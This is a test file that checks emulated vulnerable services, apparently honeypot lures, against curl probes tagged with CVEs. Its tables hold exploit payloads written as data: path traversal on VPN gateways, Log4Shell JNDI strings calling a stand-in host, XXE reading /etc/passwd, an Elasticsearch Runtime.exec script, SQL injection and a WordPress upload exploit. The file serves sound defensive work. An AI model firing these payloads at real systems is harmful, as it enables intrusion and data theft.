import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ran } from './ran.ts'
import { type PlayedLure, playLure } from './web-lures.ts'

/** One line of a lure's table of commands: what curl is given, `H` standing for the address, what it must get, and how that is tagged. */
type Row = readonly [command: string, expected: RegExp, tag?: string]

const CODE = '-o /dev/null -w %{http_code}'

/** Commands that those who specified these lures expect an answer to; what needs more than curl has a file of its own. */
const TABLES: Readonly<Record<string, { lure?: string; options?: Record<string, unknown>; rows: readonly Row[] }>> = {
  'cisco-asa': {
    rows: [
      ['-i H/', /^HTTP\/1\.1 200 OK\r\n(?![\s\S]*\r\nServer:)[\s\S]*Set-Cookie: tg=[\s\S]*Set-Cookie: webvpn=[\s\S]*logon\.html/],
      ['H/+CSCOE+/logon.html', /<title>SSL VPN Service<\/title>[\s\S]*id="unicorn_form"/],
      [`${CODE} H/foo/bar/win.js`, /^404$/],
      [
        '-X POST -d <config-auth><host-scan-reply>A</host-scan-reply></config-auth> H/',
        /<config-auth[\s\S]*could not parse request/i,
        'cve:CVE-2018-0101',
      ],
      [
        'H/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua',
        /INTERNAL_PASSWORD_ENABLED[\s\S]*CONF_VIRTUAL_KEYBOARD/,
        'cve:CVE-2020-3452',
      ],
      ['H/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions', /\/\/\/sessions/, 'cve:CVE-2018-0296'],
      ['-X POST H/+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload&path=foo&server=srv', /CSRF token mismatch/, 'cve:CVE-2025-20362'],
      [`${CODE} H/+CSCOU+/csco_logo.gif`, /^200$/],
      ['-i -b token=../+CSCOU+/csco_logo.gif H/+CSCOE+/session_password.html', /^HTTP\/1\.1 200 [\s\S]*webvpn/, 'cve:CVE-2020-3187'],
      [`${CODE} H/+CSCOU+/csco_logo.gif`, /^404$/],
      ['-H X-Aggregate-Auth:1 -d <config-auth_client="vpn"_type="init"/> H/', /type="auth-request"[\s\S]*<opaque/],
      ['-d SAMLResponse=%3Cb%3Ex H/+CSCOE+/saml/sp/acs?tgname=a', /<b>x/, 'cve:CVE-2020-3580'],
      ['H/CACHE/sdesktop/data.xml', /<config>[\s\S]*hostscan/],
    ],
  },
  citrix: {
    rows: [
      ['-i H/', /^HTTP\/1\.1 302 [\s\S]*NSC_/],
      ['H/logon/LogonPoint/index.html', /_ctxstxt_CitrixCopyright/],
      ['H/vpn/../vpns/cfg/smb.conf', /\[global\]/],
      [`${CODE} H/vpns/cfg/smb.conf`, /^40[34]$/],
      ['-i H/vpn/../vpns/', /^HTTP\/1\.1 403 [\s\S]*\/vpns\//],
      ['-d login H/p/u/doAuthentication.do', /<InitialValue>[\s\S]+<\/InitialValue>/, 'cve:CVE-2025-5777'],
      ['-i H/wsfed/passive?wctx', /^HTTP\/1\.1 302 [\s\S]*NSC_TASS=[A-Za-z0-9+/]{100}/, 'cve:CVE-2026-3055'],
      ['-i -d SAMLResponse=eA%3D%3D&RelayState=DQpYLUE6IGI%3D H/cgi/logout', /\r\nX-A: b\r\n/, 'cve:CVE-2025-12101'],
      ['-d appname=%3Cb%3Ex H/menu/stapp', /<title><b>x/, 'cve:CVE-2020-8191'],
      ['-I H/vpn/logout.html', /\r\nLast-Modified: \w{3}, \d\d \w{3} 20\d\d /],
      ['-i H/vpn/js/rdx/core/lang/rdx_en.json.gz', /\r\n\r\n\x1f\x8b\x08/],
      ['-i -d login=a&passwd=b H/cgi/login', /^HTTP\/1\.1 302 [\s\S]*NSC_VPNERR=4001/],
      [`${CODE} H/a8f3c1`, /^404$/],
    ],
  },
  traps: {
    options: { products: 'fortiweb' },
    rows: [
      [`${CODE} H/a8f3c1b7`, /^404$/],
      [`-H Authorization:Bearer_x'or'1'='1 H/api/fabric/device/status`, /FortiWeb/, 'cve:CVE-2025-25257'],
      [`-F file=@/etc/hostname -F a=b ${CODE} H/upload`, /^404$/],
    ],
  },
  'traps of a gateway': {
    lure: 'traps',
    options: { products: 'netscaler' },
    rows: [
      ['H/vpn/../vpns/cfg/smb.conf', /^\[global\]/, 'cve:CVE-2019-19781'],
      [`${CODE} H/vpns/cfg/smb.conf`, /^404$/],
      ['-d login H/p/u/doAuthentication.do', /<InitialValue>\w{100}/, 'cve:CVE-2025-5777'],
    ],
  },
  'rest-api': {
    rows: [
      ['-i H/nope', /^HTTP\/1\.1 404 [\s\S]*Content-Type: application\/json[\s\S]*\{/i],
      ['-d {} -H Content-Type:application/json H/api/v1/auth/login', /^(?![\s\S]*incorrect\/missing parameter)[\s\S]*\{/],
      [`${CODE} H/api/v1/users/me`, /^401$/],
      [`-X OPTIONS ${CODE} H/api/v1/products`, /^20[04]$/],
      [`-X PATCH ${CODE} H/api/v1/products`, /^40[1345]$/],
      [`-I ${CODE} H/api/v1/products`, /200$/],
      [`--data-binary @/bin/true ${CODE} H/api/v1/auth/login`, /^4\d\d$/],
    ],
  },
  log4shell: {
    rows: [
      ['-H X-Api-Version:${jndi:ldap://127.0.0.1:1389/a} H/', /Staff Portal/],
      ['-A ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a} H/', /Staff Portal/],
      ['-g H/%24%7Bjndi:dns://x.example%7D', /404/],
      ['-F file=@/etc/hostname;filename=${jndi:dns://x.example} H/', /\w/],
      ['-g H/?a=${jndi:file:///etc/passwd}', /Staff Portal/],
    ],
  },
  wordpress: {
    options: { vulnerable: ['wp-file-manager'] },
    rows: [
      ['H/', /name="generator" content="WordPress 6\.8\.3"/],
      ['-i H/?author=1', /^HTTP\/1\.1 301 [\s\S]*Location: [^\r]*\/author\/[a-z-]+\//],
      [`${CODE} H/?author=9999`, /^404$/],
      ['H/wp-json/wp/v2/users', /^\[\{[\s\S]*"slug":/],
      [
        '-i -b wordpress_test_cookie=WP%20Cookie%20check -d log=admin&pwd=x&wp-submit=Log+In H/wp-login.php',
        /^HTTP\/1\.1 200 [\s\S]*login_error[\s\S]*admin/,
      ],
      [
        '-d <methodCall><methodName>system.listMethods</methodName></methodCall> H/xmlrpc.php',
        /system\.multicall[\s\S]*pingback\.ping|pingback\.ping[\s\S]*system\.multicall/,
      ],
      [
        '-F cmd=upload -F target=l1_ -F upload[]=@/etc/hostname H/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
        /"added":\[\{/,
        'cve:CVE-2020-25213',
      ],
      ['-i H/login', /^HTTP\/1\.1 302 [\s\S]*Location: [^\r]*\/wp-login\.php/],
      ['-i H/xmlrpc.php', /^HTTP\/1\.1 405 [\s\S]*Allow: POST/],
      [`${CODE} H/wp-content/plugins/zz-none/readme.txt`, /^404$/],
      ['H/robots.txt', /admin-ajax\.php/],
    ],
  },
  elasticsearch: {
    rows: [
      ['-i H/', /^HTTP\/1\.1 200 OK\r\nX-elastic-product: Elasticsearch\r\n(?![\s\S]*\r\nServer:)[\s\S]*"tagline"/i],
      ['H/_cat/indices?v', /^health status index/],
      ['H/_cat/indices?format=json', /^\[\{"health"/],
      ['H/_cluster/settings', /^\{"persistent":\{\},"transient":\{\}\}/],
      ['-i H/nope', /^HTTP\/1\.1 404 [\s\S]*index_not_found_exception/],
      ['-i H/a/b/c/d', /^HTTP\/1\.1 400 [\s\S]*no handler found/],
      ['-i -X PATCH H/', /^HTTP\/1\.1 405 [\s\S]*Incorrect HTTP method/],
      ['-i H/?c=1', /^HTTP\/1\.1 400 [\s\S]*unrecognized parameter: \[c\]/],
      ['-i -d {} H/t/_doc', /^HTTP\/1\.1 406 /],
      ['-i -X PUT H/t', /"acknowledged":true/],
      ['-i -H Content-Type:application/json -d {"a":1} H/t/_doc', /^HTTP\/1\.1 201 /],
      ['-X POST H/t/_refresh', /"successful":1/],
      ['H/t/_search', /"hits":\{"total":\{"value":1,"relation":"eq"\}/],
      ['H/t/_count', /^\{"count":1,/],
      [
        '-i -H Content-Type:application/json -d {"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}} H/_search',
        /^HTTP\/1\.1 400 [\s\S]*script/,
      ],
      ['-I H/', /^HTTP\/1\.1 200 OK\r\n/],
      ['-X DELETE H/t', /"acknowledged":true/],
      [`${CODE} H/t`, /^404$/],
      ['-i -H Content-Type:application/x-ndjson --data-binary {"index":{}} H/_bulk', /^HTTP\/1\.1 400 [\s\S]*terminated by a newline/],
      ['-i -X OPTIONS H/', /^HTTP\/1\.1 200 [\s\S]*Allow: /i],
      ['-i --http1.0 H/', /^HTTP\/1\.0 200 OK\r\n(?:[\w-]+: [^\r]*\r\n){2,4}\r\n/],
    ],
  },
  'web-app': {
    rows: [
      ['H/page?insert=O:15:"ObjectInjection":1:{s:6:"insert";s:2:"id";}', /uid=/],
      ['-H Content-Type:text/xml -d <!DOCTYPE_a_[<!ENTITY_x_SYSTEM_"file:///etc/passwd">]><a><name>&x;</name></a> H/api', /root:x:0:0/],
      ['H/?f=http://127.0.0.1:22/', /^(?![\s\S]*SSH-2\.0)/],
      ['H/', /^(?![\s\S]*sess_uuid)[\s\S]*<title>/],
      ['-i H/intranet', /^HTTP\/1\.1 301 [\s\S]*Location: http:\/\/127\.0\.0\.1:\d+\/intranet\//],
      [`${CODE} H/uploads/`, /^403$/],
      [`${CODE} H/a8f3c1`, /^404$/],
    ],
  },
  ipp: {
    rows: [
      ['-i H/nope', /^HTTP\/1\.1 404 [\s\S]*CUPS v2\.4\.2/],
      [`${CODE} H/admin/conf/cupsd.conf`, /^401$/],
      ['H/robots.txt', /Disallow: \//],
      // cupsd 2.4.2 names no methods here.
      ['-i -X OPTIONS H/', /^HTTP\/1\.1 200 OK\r\nConnection: Keep-Alive\r\n[\s\S]*Content-Length: 0\r\n/],
      [`-H Content-Type:application/ipp --data-binary @/bin/true ${CODE} H/`, /^(?:200|400)$/],
    ],
  },
}

describe.each(Object.entries(TABLES))('curl at %s', (name, { lure = name, options = {}, rows }) => {
  let playing: PlayedLure
  let base: string
  beforeAll(async () => {
    playing = await playLure(lure, options)
    base = playing.base()
  }, 30_000)
  afterAll(async () => {
    expect([playing.data('lure.fault'), playing.deadLetters]).toEqual([[], []])
    await playing.stop()
  })

  it.each(rows.map(([command, expected, tag]) => [command, expected, tag] as const))(
    '%s',
    async (command, expected, tag) => {
      // Blanks divide arguments; one that belongs to an argument is written as _ where it is not part of a word of its own.
      const args = command.split(' ').map((word) => (word.startsWith('H/') ? base + word.slice(1) : blanks(word)))
      expect((await ran('curl', ['-ksS', '-g', '--path-as-is', '--max-time', '20', ...args])).stdout).toMatch(expected)
      if (tag !== undefined) expect(playing.events.some(({ tags }) => tags?.includes(tag))).toBe(true)
    },
    30_000,
  )
})

function blanks(word: string): string {
  return /^(<|Authorization)/.test(word) ? word.replaceAll('_', ' ') : word
}
